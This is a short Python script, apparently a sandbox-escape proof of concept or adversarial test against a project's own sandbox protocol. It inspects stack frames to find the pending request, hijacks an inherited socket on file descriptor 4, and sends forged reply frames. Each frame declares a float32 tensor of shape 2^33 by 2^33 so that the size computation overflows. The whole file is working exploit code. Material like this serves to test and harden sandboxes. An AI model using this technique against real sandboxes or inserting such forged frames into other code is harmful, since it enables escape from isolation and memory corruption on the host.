"""Forge: a shape whose product overflows to nothing."""

import socket
import sys

from sandbox.frames import Frame, receive, send
from sandbox.wire import decode, encode


def question():
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if type(value) is dict and {"id", "op"} <= set(value):
                return value
        frame = frame.f_back
    print("ESCAPED: the question is no longer found")


link = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=4)
send(link, encode({"id": question()["id"], "value": None, "forbidden": []}))
while True:
    asked = decode(receive(link))
    x = asked["args"][0]
    reply = {"id": asked["id"], "value": 2 * x, "args": [x], "kwargs": {}, "forbidden": []}
    frame = encode({**reply, "args": []})
    frame.tree[1][1][1] = ["T", "float32", [1 << 33, 1 << 33], 0, 0]
    send(link, Frame(frame.tree))
